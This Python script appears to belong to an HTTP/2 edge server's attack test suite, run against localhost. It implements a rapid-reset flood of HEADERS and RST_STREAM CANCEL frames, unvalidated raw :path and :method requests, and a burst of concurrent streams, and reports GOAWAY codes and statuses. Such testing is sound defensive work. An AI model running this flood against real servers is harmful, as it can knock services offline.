#!/usr/bin/python3
"""Raw HTTP/2 as a hostile client sends it, for the edge's attack suite (python3-h2 builds the frames).
Usage: h2_attack.py PORT SNI CA MODE [ARGS]
  reset N          N x (HEADERS with END_STREAM, RST_STREAM CANCEL) on one connection, in batches of 100
                   with reads between them; stops at GOAWAY or close, else waits 3 s for one. Prints "sent N goaway CODE" or "sent N no-goaway".
  reset-then-get N N resets, then one ordinary GET on the same connection. Prints the GET's status (or
                   "goaway CODE" / "closed").
  raw PATH METHOD  one request with the given :path and :method as they are (no checks by this client).
                   Prints the status, or "reset CODE", or "goaway CODE".
  many N PATH      N (<= 100, the edge's stream limit) GETs of PATH at once on one connection. Prints the
                   statuses as "200x8 503x4".
"""
import socket, ssl, sys, time

import h2.config, h2.connection, h2.events, h2.errors

port, sni, ca, mode = int(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
args = sys.argv[5:]

ctx = ssl.create_default_context(cafile=ca)
ctx.set_alpn_protocols(["h2"])
sock = ctx.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=10), server_hostname=sni)
assert sock.selected_alpn_protocol() == "h2", "no h2"
cfg = h2.config.H2Configuration(client_side=True, header_encoding="utf-8", validate_outbound_headers=False,
                                normalize_outbound_headers=False, validate_inbound_headers=False)
conn = h2.connection.H2Connection(config=cfg)
conn.initiate_connection()
sock.sendall(conn.data_to_send())
authority = f"{sni}:{port}"


def headers(path="/a.js", method="GET"):
    return [(":method", method), (":scheme", "https"), (":authority", authority), (":path", path)]


def pump(until, deadline):
    """Reads and feeds events until until(event) is truthy or the deadline; returns that event or None."""
    while time.monotonic() < deadline:
        sock.settimeout(max(0.05, deadline - time.monotonic()))
        try:
            data = sock.recv(65536)
        except (socket.timeout, TimeoutError):
            return None
        except (ConnectionError, ssl.SSLError):
            return "closed"
        if not data:
            return "closed"
        try:
            events = conn.receive_data(data)
        except h2.exceptions.ProtocolError:
            events = []
        out = conn.data_to_send()
        if out:
            try:
                sock.sendall(out)
            except (ConnectionError, ssl.SSLError):
                pass
        for ev in events:
            r = until(ev)
            if r:
                return r
    return None


def is_goaway(ev):
    if isinstance(ev, h2.events.ConnectionTerminated):
        return f"goaway {int(ev.error_code)}"
    return None


def drain():
    """Feeds what has arrived so far (without waiting); returns "goaway CODE", "closed" or None."""
    sock.setblocking(False)
    try:
        while True:
            try:
                data = sock.recv(65536)
            except (BlockingIOError, ssl.SSLWantReadError):
                return None
            except (ConnectionError, ssl.SSLError):
                return "closed"
            if not data:
                return "closed"
            for ev in conn.receive_data(data):
                g = is_goaway(ev)
                if g:
                    return g
    finally:
        sock.setblocking(True)


def send_resets(n):
    """Sends n HEADERS+RST_STREAM pairs in batches of 100, reading between batches; stops at a GOAWAY or close.
    Returns (pairs sent, next stream id, "goaway CODE" / "closed" / None)."""
    sent, sid, seen = 0, 1, None
    try:
        while sent < n and seen is None:
            for _ in range(min(100, n - sent)):
                conn.send_headers(sid, headers(), end_stream=True)
                conn.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)
                sid += 2
                sent += 1
            sock.sendall(conn.data_to_send())
            seen = drain()
    except (ConnectionError, ssl.SSLError, h2.exceptions.ProtocolError):
        seen = seen or "closed"
    return sent, sid, seen


def answer_of(sid, deadline):
    status = {}

    def until(ev):
        g = is_goaway(ev)
        if g:
            return g
        if isinstance(ev, h2.events.ResponseReceived) and ev.stream_id == sid:
            status["s"] = dict(ev.headers).get(":status")
        if isinstance(ev, h2.events.StreamEnded) and ev.stream_id == sid:
            return status.get("s", "?")
        if isinstance(ev, h2.events.StreamReset) and ev.stream_id == sid:
            return f"reset {int(ev.error_code)}"
        return None

    return pump(until, deadline) or "timeout"


if mode == "reset":
    n = int(args[0])
    sent, _, seen = send_resets(n)
    r = seen or pump(is_goaway, time.monotonic() + 3)
    print(f"sent {sent} " + (r if r and r != "closed" else "no-goaway" if r is None else "closed"))
elif mode == "reset-then-get":
    n = int(args[0])
    sent, sid, seen = send_resets(n)
    if seen:
        print(seen)
        sys.exit(0)
    conn.send_headers(sid, headers(), end_stream=True)
    sock.sendall(conn.data_to_send())
    print(answer_of(sid, time.monotonic() + 10))
elif mode == "raw":
    path, method = args[0], args[1]
    conn.send_headers(1, headers(path, method), end_stream=True)
    sock.sendall(conn.data_to_send())
    print(answer_of(1, time.monotonic() + 10))
elif mode == "many":
    n, path = int(args[0]), args[1]
    for i in range(n):
        conn.send_headers(1 + 2 * i, headers(path), end_stream=True)
    sock.sendall(conn.data_to_send())
    got = {}

    def until(ev):
        if isinstance(ev, h2.events.ResponseReceived):
            st = dict(ev.headers).get(":status")
            got[st] = got.get(st, 0) + 1
        return sum(got.values()) >= n or is_goaway(ev)

    pump(until, time.monotonic() + 20)
    print(" ".join(f"{k}x{v}" for k, v in sorted(got.items())))
else:
    sys.exit(f"h2_attack: unknown mode '{mode}'")
